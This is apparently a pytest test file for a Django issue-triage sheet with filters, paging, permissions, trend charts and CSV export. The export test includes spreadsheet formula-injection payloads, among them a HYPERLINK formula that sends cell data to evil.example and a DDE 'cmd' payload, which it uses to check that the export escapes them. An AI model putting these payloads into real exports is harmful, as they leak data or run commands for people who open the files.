"""The issue sheet: filters, keyset paging, CSV export
with hostile cells, pages and their permissions."""

import csv
import datetime as dt
import io

import pytest
from django.http import QueryDict
from django.urls import reverse
from django.utils import timezone

from evals.catalog.models import AgentVersion
from labeling.models import IssueRow
from labeling.selectors import issue_rows as sel
from labeling.services import triage
from tests.factories import AgentFactory, TranscriptFactory
from tests.labeling.issue_helpers import call_with_turns, file_row

pytestmark = pytest.mark.django_db


def parse(query: str) -> sel.SheetFilters:
    return sel.issue_sheet_filters_parse(QueryDict(query))


def numbers(query: str = "") -> list[int]:
    return sorted(r.number for r in sel.issue_rows_filtered(parse(query)))


@pytest.fixture
def sheet(reviewer, engineer, lead, make_user):
    """Six rows that differ in every filterable way."""
    other_reporter = make_user("reviewer", username="ana")
    new_version = AgentVersion.objects.create(agent=AgentFactory(), version="2026-12-01.2")
    rows = [
        file_row(reviewer, what="Talks over the candidate", severity="major", audio_only=True),
        file_row(reviewer, what="Asked two questions", severity="minor"),
        file_row(other_reporter, what="Leaked the rubric", severity="critical"),
        file_row(
            other_reporter,
            call_with_turns(agent_version=new_version),
            what="Long silence",
            severity="major",
            audio_only=True,
        ),
        file_row(reviewer, what="Greeted twice", severity="minor"),
        file_row(reviewer, what="talks over again", severity="critical"),
    ]
    triage.issue_row_assign(row=rows[0], actor=lead, assignee=engineer)
    triage.issue_row_request_signal(row=rows[0], actor=engineer, request="talk-over detector")
    triage.issue_row_write_rule(
        row=rows[2],
        actor=engineer,
        rule_id="boundaries.no-rubric",
        group="boundaries",
        text="Never reveal the rubric.",
        severity="critical",
    )
    triage.issue_row_close_wont_fix(row=rows[4], actor=engineer, reason="fine")
    IssueRow.objects.filter(pk=rows[5].pk).update(created_at=timezone.now() - dt.timedelta(days=10))
    return rows


def test_each_filter_narrows_the_sheet(sheet):
    n = [r.number for r in sheet]
    assert numbers() == n
    assert numbers("status=new") == [n[1], n[3], n[5]]
    assert numbers("status=new&status=wont_fix") == [n[1], n[3], n[4], n[5]]
    assert numbers("severity=critical") == [n[2], n[5]]
    assert numbers("outcome=untriaged") == [n[1], n[3], n[5]]
    assert numbers("outcome=new_signal,new_rule") == [n[0], n[2]]
    assert numbers("rule=boundaries.no-rubric") == [n[2]]
    assert numbers("agent_version=2026-12-01.2") == [n[3]]
    assert numbers("reporter=ana") == [n[2], n[3]]
    assert numbers("assignee=marco") == [n[0]]
    assert numbers("assignee=none") == n[1:]
    assert numbers("audio_only=true") == [n[0], n[3]]
    assert numbers("audio_only=false") == [n[1], n[2], n[4], n[5]]
    assert numbers("q=TALKS OVER") == [n[0], n[5]]
    today = timezone.localdate().isoformat()
    assert numbers(f"since={today}") == n[:5]
    old = (timezone.localdate() - dt.timedelta(days=10)).isoformat()
    assert numbers(f"since={old}&until={old}") == [n[5]]


@pytest.mark.parametrize(
    "query, field",
    [
        ("status=open", "status"),
        ("severity=huge", "severity"),
        ("since=yesterday", "since"),
        ("audio_only=maybe", "audio_only"),
        ("sort=colour", "sort"),
        ("since=2026-02-02&until=2026-01-01", "until"),
    ],
)
def test_bad_filters_name_the_parameter(query, field):
    with pytest.raises(sel.IssueRowFilterError) as exc:
        parse(query)
    assert exc.value.field == field


@pytest.mark.parametrize("sort", list(sel.SORTS))
def test_keyset_pages_walk_every_row_once_both_ways(reviewer, sort):
    t = call_with_turns()
    severities = ["minor", "major", "critical"]
    for i in range(23):
        file_row(reviewer, t, what=f"row {i}", severity=severities[i % 3])
    filters = parse(f"sort={sort}")
    expected = [
        r.number for r in sel.issue_rows_filtered(filters).order_by(*sel.sheet_ordering(sort))
    ]
    seen, after, pages = [], "", []
    while True:
        page = sel.issue_sheet_page(filters=filters, after=after, size=5)
        pages.append(page)
        seen += [r.number for r in page.rows]
        if not page.next_cursor:
            break
        after = page.next_cursor
    assert seen == expected and len(pages) == 5 and pages[0].total == 23
    assert not pages[0].prev_cursor and pages[1].prev_cursor
    # and back from the last page to the first
    back, before = [], pages[-1].prev_cursor
    while before:
        page = sel.issue_sheet_page(filters=filters, before=before, size=5)
        back = [r.number for r in page.rows] + back
        before = page.prev_cursor
    assert back + [r.number for r in pages[-1].rows] == expected


def test_a_forged_cursor_is_a_clear_error():
    with pytest.raises(sel.IssueRowFilterError) as exc:
        sel.issue_sheet_page(filters=parse(""), after="not-a-cursor")
    assert exc.value.field == "after"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tTAB=1+1",
    "\rCR=1",
    "line one\nline two",
    'He said "hi", then left',
    "ünïcødé 日本語 🙂",
    "plain text",
    "=1+1\n=2+2",
]


def read_csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")  # spreadsheets open it as UTF-8
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_csv_escapes_hostile_cells_and_round_trips_the_rest(client, make_user, engineer):
    hostile_reporter = make_user("reviewer", username="@evil")
    t = call_with_turns()
    rows = [file_row(hostile_reporter, t, what=f"placeholder {i}") for i in range(len(HOSTILE))]
    for row, what in zip(
        rows, HOSTILE
    ):  # raw, as an older import could have stored them (filing strips)
        IssueRow.objects.filter(pk=row.pk).update(what=what)
    triage.issue_row_request_signal(row=rows[0], actor=engineer, request="-2+3 detector")
    triage.issue_row_close_wont_fix(row=rows[1], actor=engineer, reason="=cmd|' /C calc'!A0")
    client.force_login(engineer)
    response = client.get(reverse("issue-sheet-export") + "?sort=number")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    records = read_csv(b"".join(response.streaming_content))
    header, body = records[0], records[1:]
    assert header == sel.CSV_COLUMNS
    col = {name: i for i, name in enumerate(header)}
    assert [r[col["number"]] for r in body] == [str(r.number) for r in rows]
    for record, what in zip(body, HOSTILE):
        cell = record[col["what"]]
        if what[0] in "=+-@\t\r":
            assert cell == "'" + what
        else:
            assert cell == what
        assert record[col["reporter"]] == "'@evil"
        assert record[col["link"]].startswith("http://testserver/calls/")
    assert body[0][col["signal_request"]] == "'-2+3 detector"
    assert body[1][col["reason"]] == "'=cmd|' /C calc'!A0"
    # no cell a spreadsheet would evaluate
    for record in body:
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_cell_escaping_rules():
    assert sel.csv_cell("=1") == "'=1"
    assert sel.csv_cell("\t=1") == "'\t=1"
    assert sel.csv_cell("a=1") == "a=1"
    assert sel.csv_cell(-1) == "-1"  # real numbers stay numbers
    assert sel.csv_cell(None) == "" and sel.csv_cell(True) == "yes"


def test_csv_export_follows_the_filters(client, sheet, engineer):
    client.force_login(engineer)
    body = read_csv(
        b"".join(client.get(reverse("issue-sheet-export") + "?severity=critical").streaming_content)
    )[1:]
    assert sorted(int(r[0]) for r in body) == [sheet[2].number, sheet[5].number]


def test_reviewer_gets_403_on_every_triage_page_and_post(client, reviewer, sheet):
    client.force_login(reviewer)
    n = sheet[1].number
    for name in ("issue-sheet", "issue-sheet-export", "issue-trends"):
        assert client.get(reverse(name)).status_code == 403
    assert client.get(reverse("issue-row-detail", args=[n])).status_code == 403
    posts = {
        "issue-row-assign": {"assignee": "priya"},
        "issue-row-status": {"status": "triaged"},
        "issue-row-duplicate": {"duplicate_of": sheet[0].number},
        "issue-row-wont-fix": {"reason": "x"},
        "issue-row-comment": {"text": "x"},
        "issue-row-write-rule": {
            "rule_id": "a.b",
            "group": "asking",
            "text": "x",
            "severity": "minor",
        },
        "issue-row-add-signal": {"mode": "request", "request": "x"},
        "issue-row-fix-rule": {"rule": "boundaries.no-rubric", "text": "y"},
    }
    for name, data in posts.items():
        assert client.post(reverse(name, args=[n]), data).status_code == 403, name
    row = IssueRow.objects.get(number=n)
    assert (row.status, row.outcome, row.assignee_id) == ("new", "", None)
    assert list(row.events.values_list("kind", flat=True)) == ["filed"]


def test_sheet_page_renders_rows_links_and_htmx_fragment(client, engineer, sheet):
    client.force_login(engineer)
    response = client.get(reverse("issue-sheet") + "?severity=critical")
    html = response.content.decode()
    assert response.status_code == 200
    assert f'id="row-{sheet[2].number}"' in html and f'id="row-{sheet[1].number}"' not in html
    t = sheet[2].transcript
    assert f'href="/calls/{t.external_id}/?turn=2#turn-2"' in html
    assert 'href="/issues/export.csv?severity=critical"' in html
    fragment = client.get(
        reverse("issue-sheet") + "?severity=minor", headers={"HX-Request": "true"}
    )
    body = fragment.content.decode()
    assert body.lstrip().startswith('<div id="sheet-table"') and "<html" not in body
    assert f'id="row-{sheet[1].number}"' in body
    assert "HX-Request" in fragment["Vary"]
    restore = client.get(
        reverse("issue-sheet") + "?severity=minor",
        headers={"HX-Request": "true", "HX-History-Restore-Request": "true"},
    )
    assert "<html" in restore.content.decode()  # a history miss gets the whole page back
    bad = client.get(reverse("issue-sheet") + "?since=soon")
    assert bad.status_code == 400 and "since" in bad.content.decode()


def test_nav_shows_issues_to_engineers_only(client, engineer, reviewer):
    client.force_login(engineer)
    assert 'href="/issues/"' in client.get(reverse("dashboard")).content.decode()
    client.force_login(reviewer)
    assert 'href="/issues/"' not in client.get(reverse("dashboard")).content.decode()


def test_detail_page_forms_take_each_way_and_show_history(client, engineer, reviewer):
    from tests.labeling.issue_helpers import gated_rule

    rule = gated_rule()
    rows = [file_row(reviewer) for _ in range(3)]
    client.force_login(engineer)
    detail = client.get(reverse("issue-row-detail", args=[rows[0].number])).content.decode()
    assert "Write a rule" in detail and "Add a signal" in detail and "Fix the rule" in detail
    form = client.get(reverse("issue-row-write-rule", args=[rows[0].number])).content.decode()
    assert (
        'value="asking.asked-two-questions-at-once"' in form
        and "Asked two questions at once</textarea>" in form
    )

    r = client.post(
        reverse("issue-row-write-rule", args=[rows[0].number]),
        {
            "rule_id": "asking.one-at-a-time",
            "group": "asking",
            "text": "One at a time.",
            "severity": "major",
        },
    )
    assert r.status_code == 302
    r = client.post(
        reverse("issue-row-add-signal", args=[rows[1].number]),
        {
            "mode": "create",
            "detector": "silence_before_agent",
            "param_silence_before_agent_max_ms": "2500",
            "rule_id": "signals.silence",
            "group": "signals",
            "text": "Answer within 2.5 s",
            "severity": "minor",
        },
    )
    assert r.status_code == 302
    fix_form = client.get(
        reverse("issue-row-fix-rule", args=[rows[2].number]) + f"?rule={rule.rule_id}"
    )
    assert "Ask one question per turn.</textarea>" in fix_form.content.decode()
    r = client.post(
        reverse("issue-row-fix-rule", args=[rows[2].number]), {"rule": rule.rule_id, "text": "New."}
    )
    assert r.status_code == 302
    bad = client.post(
        reverse("issue-row-add-signal", args=[rows[1].number]),
        {"mode": "create", "detector": "talk_over", "param_talk_over_max_overlap_ms": "x"},
    )
    assert bad.status_code == 400 and "detector.max_overlap_ms" in bad.content.decode()

    outcomes = dict(
        IssueRow.objects.filter(pk__in=[r.pk for r in rows]).values_list("number", "outcome")
    )
    assert outcomes == {
        rows[0].number: "new_rule",
        rows[1].number: "new_signal",
        rows[2].number: "rule_fix",
    }
    page = client.get(reverse("issue-row-detail", args=[rows[2].number])).content.decode()
    assert (
        "fixed the rule" in page
        and "v2 (candidate)" in page
        and "v1 stays in the gate until then" in page
    )


def test_trends_count_rows_by_outcome_and_findings(reviewer, engineer, sheet):
    trends = sel.issue_trends(days=14)
    today = timezone.localdate()
    assert trends.rows_by_outcome[today] == {
        "new_signal": 1,
        "untriaged": 2,
        "new_rule": 1,
        "wont_fix": 1,
    }
    assert trends.found[today]["new_failures"] == 5
    assert len(trends.days) == 14 and trends.days[-1] == today


def test_trends_page_draws_svg_bars(client, engineer, sheet):
    client.force_login(engineer)
    html = client.get(reverse("issue-trends")).content.decode()
    assert 'data-testid="rows-chart"' in html and 'class="seg seg-untriaged"' in html
    assert "style=" not in html.split("<main", 1)[1]  # CSP: no inline styles


@pytest.mark.postgres
def test_sheet_query_count_is_constant_at_100000_rows(
    client, engineer, reviewer, django_assert_max_num_queries
):
    t = TranscriptFactory()
    small = [file_row(reviewer, call_with_turns(), what=f"r{i}") for i in range(3)]
    client.force_login(engineer)
    url = reverse("issue-sheet") + "?status=new&sort=severity"
    with django_assert_max_num_queries(16) as small_ctx:
        assert client.get(url).status_code == 200
    start = small[-1].number + 1
    severities = ["minor", "major", "critical"]
    IssueRow.objects.bulk_create(
        (
            IssueRow(
                number=start + i,
                transcript=t,
                turn=None,
                what=f"bulk row {i}",
                severity=severities[i % 3],
                reporter=reviewer,
            )
            for i in range(100_000)
        ),
        batch_size=10_000,
    )
    assert IssueRow.objects.count() == 100_003
    with django_assert_max_num_queries(len(small_ctx.captured_queries)) as big_ctx:
        response = client.get(url)
    assert response.status_code == 200
    assert "100,003 rows" in response.content.decode()
    page = sel.issue_sheet_page(filters=parse("status=new&sort=severity"))
    deep = client.get(url + f"&after={page.next_cursor}")
    assert deep.status_code == 200 and len(big_ctx.captured_queries) == len(
        small_ctx.captured_queries
    )


def test_trends_split_reviewed_items_by_reason_and_count_judge_errors(reviewer):
    from labeling.models import Assignment, Mark
    from tests.factories import (
        DailySampleFactory,
        SampleItemFactory,
        UserFactory,
        VerdictFactory,
    )

    today = timezone.localdate()
    sample = DailySampleFactory(day=today)
    now = timezone.now()
    items = [
        SampleItemFactory(sample=sample, reason=r)
        for r in ("uniform", "uniform", "judge_check", "judge_check")
    ]
    for item in items[:3]:  # the fourth is claimed but not finished: not reviewed
        Assignment.objects.create(
            item=item, reviewer=reviewer, claimed_at=now, lease_expires_at=now, finished_at=now
        )
    Assignment.objects.create(
        item=items[3], reviewer=reviewer, claimed_at=now, lease_expires_at=now
    )
    # A second finished review of the first item: still one call reviewed.
    Assignment.objects.create(
        item=items[0],
        reviewer=UserFactory(roles=["reviewer"]),
        claimed_at=now,
        lease_expires_at=now,
        finished_at=now,
    )
    Mark.objects.create(verdict=VerdictFactory(), reviewer=reviewer, correct=False)
    Mark.objects.create(verdict=VerdictFactory(), reviewer=reviewer, correct=True)
    file_row(reviewer)
    trends = sel.issue_trends(days=7)
    assert trends.reviewed[today] == {"uniform": 2, "judge_check": 1}
    assert trends.found[today] == {"new_failures": 1, "judge_wrong": 1}
